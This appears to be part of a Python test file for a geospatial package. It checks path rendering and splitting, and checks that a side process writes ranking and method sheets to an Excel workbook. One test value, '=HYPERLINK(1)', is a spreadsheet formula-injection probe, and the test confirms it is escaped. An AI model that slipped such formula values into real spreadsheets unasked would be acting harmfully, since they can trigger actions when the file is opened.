    ax = figure.add_axes((0, 0, 1, 1))
    ax.set_axis_off()
    ax.add_collection(PathCollection(paths, facecolors="black", linewidths=0))
    ax.set_xlim(0, 22)
    ax.set_ylim(0, 10)
    canvas.draw()
    pixels = np.asarray(canvas.buffer_rgba())[..., 0]

    def ink(x: float, y: float) -> bool:  # data -> pixel (row 0 at the top)
        col, row = int(x / 22 * pixels.shape[1]), int((1 - y / 10) * pixels.shape[0])
        return bool(pixels[row, col] < 128)

    assert ink(5, 5)  # the overlap of the two squares
    assert ink(1, 1) and ink(9, 9)
    assert ink(13, 5) and not ink(17, 5)  # the ring filled, its hole empty

    # a new path starts at the first whole ring past each MAX_PATH_VERTICES vertices
    monkeypatch.setattr(maps, "MAX_PATH_VERTICES", 7)
    small = maps.compound_paths(parts, closed=True)
    assert [len(p.vertices) for p in small] == [10, 5, 5]
    assert all(p.codes[0] == 1 and p.codes[-1] == 79 for p in small)
    lines = maps.compound_paths(
        np.array([shapely.LineString([(0, 0), (1, 1)]), shapely.LineString([(2, 2), (3, 3)])]),
        closed=False,
    )
    assert [list(p.codes) for p in lines] == [[1, 2, 1, 2]]


def test_workbook_process_writes_the_sheets_and_reports_a_failure(tmp_path: Path) -> None:
    from magicmix_geo.publish.side_process import start_workbook

    sheets = {
        "ranking": pd.DataFrame({"rank_nl": [1, 2], "site_id": ["=HYPERLINK(1)", "b"]}),
        "method": pd.DataFrame({"criterion": ["x"], "description": ["y"]}),
    }
    start_workbook(tmp_path, sheets).wait()
    book = openpyxl.load_workbook(tmp_path / "national_ranking.xlsx", read_only=True)
    assert book.sheetnames == ["ranking", "method"]
    rows = list(book["ranking"].values)
    assert rows == [("rank_nl", "site_id"), (1, "'=HYPERLINK(1)"), (2, "b")]
    # a folder that cannot hold the file: the child fails, the parent says so
    blocked = tmp_path / "file"
    blocked.write_text("not a folder")
    with pytest.raises(OutputError, match=r"national_ranking\.xlsx: not written"):
        start_workbook(blocked, sheets).wait()
